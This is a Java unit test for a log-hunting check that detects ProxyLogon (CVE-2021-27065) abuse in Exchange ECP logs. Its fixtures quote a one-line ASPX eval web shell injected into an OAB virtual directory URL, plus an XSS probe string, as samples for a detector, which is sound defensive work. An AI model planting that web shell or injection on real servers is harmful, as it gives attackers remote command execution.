package dwell.exchange.pack;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dwell.format.exchange.EcpLog;
import dwell.hunt.Finding;
import dwell.hunt.Indicator;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class EcpVirtualDirectoryCheckTest {
    // Real lines (trimmed to time and EventData by its authors) from a public incident write-up of 2021-03-03
    // (github.com "2021-march-exchange", a Norwegian responder's notes of Test-ProxyLogon.ps1 hits).
    static final String SET_SCRIPT = "2021-03-03T06:49:53.772Z,'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script "
            + "language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"klk123456\"\"],\"\"unsafe\"\");}"
            + "</script>''.Identity=''982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'''";
    static final String GET_VDIR = "2021-03-03T06:49:53.834Z,'S:CMD=Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity="
            + "''982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3''';;S:EX=";
    static final String SET_NULL = "2021-03-03T06:49:58.835Z,'S:CMD=Set-OabVirtualDirectory.ExternalUrl=$null.Identity="
            + "''982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3''';;'S:EX=Microsoft.Exchange.Data.Directory.ADNoSuchObjectException:Active "
            + "Directory operation failed on 10227-OAD-W001.xxx.local. The object ''CN=OAB (Default Web Site),CN=HTTP'' does not exist.'";
    static final String NEW_VDIR = "2021-03-03T06:50:08.396Z,'S:CMD=New-OABVirtualDirectory.WebSiteName=''Default Web Site''"
            + ".Server=''servernavn''.Role=''ClientAccess''.InternalURL=''https://servernavn.xxx.local/OAB''.Path=''C:\\Program Files"
            + "\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB''';;S:EX=";

    @Test
    void scriptInTheExternalUrlIsFlagged() {
        Optional<String> cmd = EcpVirtualDirectoryCheck.scriptedCommand(SET_SCRIPT);
        assertTrue(cmd.isPresent());
        assertTrue(cmd.get().startsWith("Set-OabVirtualDirectory.ExternalUrl=''http://f/<script"), cmd.get());
    }

    @Test
    void benignVirtualDirectoryCommandsAreNot() {
        assertEquals(Optional.empty(), EcpVirtualDirectoryCheck.scriptedCommand(GET_VDIR));
        assertEquals(Optional.empty(), EcpVirtualDirectoryCheck.scriptedCommand(SET_NULL));
        assertEquals(Optional.empty(), EcpVirtualDirectoryCheck.scriptedCommand(NEW_VDIR));
        assertEquals(Optional.empty(), EcpVirtualDirectoryCheck.scriptedCommand(
                "2021-02-01T10:00:00.000Z,'S:CMD=Set-OwaVirtualDirectory.ExternalUrl=''https://mail.contoso.com/owa''.Identity=''EXCH01\\owa (Default Web Site)''';;S:EX="));
    }

    @Test
    void aTagOutsideTheCommandDoesNotCount() {
        assertEquals(Optional.empty(), EcpVirtualDirectoryCheck.scriptedCommand(
                "2021-02-01T10:00:00.000Z,'S:CMD=Set-EcpVirtualDirectory.InternalUrl=''https://exch01/ecp''';;'S:EX=Error <b>bad</b>'"));
        assertEquals(Optional.empty(), EcpVirtualDirectoryCheck.scriptedCommand(
                "S:CMD=Set-OabVirtualDirectory.ExternalUrl=''https://mail.contoso.com/OAB?a<3''"));
    }

    @Test
    void otherTagsInAnyUrlParameterCount() {
        assertTrue(EcpVirtualDirectoryCheck.scriptedCommand(
                "S:CMD=Set-EcpVirtualDirectory.InternalUrl='http://x/<img src=x onerror=alert(1)>'").isPresent());
    }

    @Test
    void findingCarriesTheCommandAndTheClientAddress() {
        EcpVirtualDirectoryCheck check = new EcpVirtualDirectoryCheck(PackEvents.RULES);
        PackEvents.Sink sink = new PackEvents.Sink();
        check.onEvent(PackEvents.line(EcpLog.ID, "EXCH01/Logging/ECP/Server/ECPServer20210303-1.LOG", 12,
                "2021-03-03T06:49:53.772Z", SET_SCRIPT, "IP", "203.0.113.9"), sink);
        check.onEvent(PackEvents.line(EcpLog.ID, "EXCH01/Logging/ECP/Server/ECPServer20210303-1.LOG", 13,
                "2021-03-03T06:49:53.834Z", GET_VDIR), sink);
        assertEquals(1, sink.findings.size());
        Finding f = sink.findings.get(0);
        assertTrue(f.rule().tags().contains("cve.2021-27065"));
        assertEquals(List.of(new Indicator("ip", "203.0.113.9")), f.indicators());
        assertTrue(f.details().get("command").toString().contains("Page_Load"));
    }
}
